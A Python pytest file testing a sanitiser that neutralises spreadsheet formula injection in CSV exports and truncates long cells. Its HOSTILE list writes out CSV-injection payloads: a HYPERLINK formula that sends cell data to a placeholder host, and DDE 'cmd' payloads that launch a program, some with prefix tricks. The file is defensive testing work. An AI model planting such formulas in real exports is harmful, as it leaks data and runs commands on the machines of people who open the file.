"""Cells written for spreadsheets: formula starts neutralised, long cells cut (safe_cells)."""

from __future__ import annotations

import io

import pytest

from hausbesuch.safe_cells import (
    CUT_MARKER,
    MAX_CELL_CHARS,
    is_formula_like,
    safe_cell,
    safe_row,
    write_csv,
)
from tests.cells import formula_cells

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"x")',
    "=cmd|'/C calc'!A0",
    "+49 6621 1234",
    "-5",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_starts_get_an_apostrophe_and_stay_readable(text):
    out = safe_cell(text)
    assert out == "'" + text
    assert not is_formula_like(out)
    assert safe_cell(out) == out  # idempotent


@pytest.mark.parametrize("text", ["K-100004", "Hauptstr. 5", "", "'schon Text", "12,5", "a=b"])
def test_ordinary_text_is_unchanged(text):
    assert safe_cell(text) == text


def test_numbers_we_write_stay_numbers_and_none_is_empty():
    assert safe_cell(-5) == -5 and safe_cell(2.5) == 2.5
    assert safe_cell(None) == ""
    assert safe_cell(True) == "True"  # a bool is no number cell


def test_long_cells_are_cut_with_a_visible_marker():
    out = safe_cell("x" * 100_000)
    assert len(out) == MAX_CELL_CHARS and out.endswith(CUT_MARKER)
    out = safe_cell("=" + "y" * 50_000)
    assert out.startswith("'=") and out.endswith(CUT_MARKER) and len(out) == MAX_CELL_CHARS + 1
    assert safe_cell("z" * MAX_CELL_CHARS) == "z" * MAX_CELL_CHARS


def test_safe_row_and_write_csv_cover_every_cell(tmp_path):
    assert safe_row({"a": "=1", "b": 3}) == {"a": "'=1", "b": 3}
    assert safe_row(["@x", None]) == ["'@x", ""]
    buf = io.StringIO()
    write_csv(buf, ["=kopf", "b"], [{"=kopf": t, "b": t} for t in HOSTILE] + [HOSTILE[:2]])
    path = tmp_path / "out.csv"
    path.write_text(buf.getvalue(), encoding="utf-8")
    assert formula_cells(path) == []
    # the header was neutralised too, and every row was written
    assert buf.getvalue().startswith("'=kopf;b")
    assert buf.getvalue().count("\r\n") == len(HOSTILE) + 2
